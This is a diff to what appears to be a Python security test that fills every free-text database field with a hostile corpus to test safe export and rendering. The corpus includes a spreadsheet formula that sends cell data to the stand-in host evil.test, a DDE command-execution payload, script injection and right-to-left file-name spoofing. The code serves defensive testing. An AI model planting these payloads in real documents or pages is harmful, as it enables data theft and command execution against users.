@@ -19,6 +19,25 @@ from .test_access_matrix import CASES, _build_world, _request, _rule_for
 MARK = '<x-xss a="1">'
 IDENTIFIER = re.compile(r"^[a-z0-9_:.\-]*$")
 
+# The hostile corpus: what a pasted or malicious value may hold. Each piece is put at the
+# start of every text value (formula prefixes only act at the start) of a process by
+# ``poison_every_text(process_id, HOSTILE_PREFIX, HOSTILE_SUFFIX)``.
+HOSTILE = {
+    "formula": '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
+    "dde": "=cmd|' /C calc'!A0",
+    "plus": "+1+1",
+    "minus": "-2+3",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "nul": "nul\x00",  # PostgreSQL refuses it in text: stripped before any write
+    "control": "bell\x07 vt\x0b ff\x0c esc\x1b del\x7f nonchar\ufffe",
+    "rtl": "\u202egpj.exe\u202c \u2066isolate\u2069",
+    "markup": "<script>alert(1)</script><w:t>&amp;</w:t>]]><!--",
+    "long": "long " * 2000,
+}
+HOSTILE_PREFIX = HOSTILE["formula"] + HOSTILE["control"] + HOSTILE["rtl"] + HOSTILE["markup"]
+HOSTILE_SUFFIX = HOSTILE["long"]
+
 
 def _text_columns(model):
     for column in inspect(model).columns:
@@ -28,9 +47,10 @@ def _text_columns(model):
             yield column
 
 
-def _poison_every_text(process_id: int) -> int:
-    """Append the mark to every free-text value; values that look like identifiers
-    (stage keys, codes, tokens) keep their meaning and are left alone."""
+def _poison_every_text(process_id: int, prefix: str = "", suffix: str = MARK) -> int:
+    """Wrap every free-text value in ``prefix``/``suffix`` (cut to the column's length),
+    written with plain SQL as if stored before any input cleaning; values that look like
+    identifiers (stage keys, codes, tokens) keep their meaning and are left alone."""
     poisoned = 0
     models = {m.class_ for m in db.Model.registry.mappers}
     for model in sorted(models, key=lambda m: m.__name__):
@@ -48,13 +68,17 @@ def _poison_every_text(process_id: int) -> int:
             values = db.session.execute(db.select(column).where(where)).scalars().all()
             if not values or all(v is None or IDENTIFIER.match(v) for v in values):
                 continue
-            limit = getattr(column.type, "length", None) or 10_000
+            limit = getattr(column.type, "length", None) or 20_000
+            head = prefix[: max(limit - 1, 0) // 2]
+            room = max(limit - len(head) - 1, 1)
+            tail = suffix[: max(room // 2, 0)] if prefix else suffix
+            keep = max(room - len(tail), 1)
             db.session.execute(
                 update(table)
                 .where(where)
                 .where(column.is_not(None))
                 .where(column != "")
-                .values({column.name: db.func.substr(column, 1, max(limit - len(MARK), 1)) + MARK})
+                .values({column.name: head + db.func.substr(column, 1, keep) + tail})
             )
             poisoned += 1
     db.session.commit()
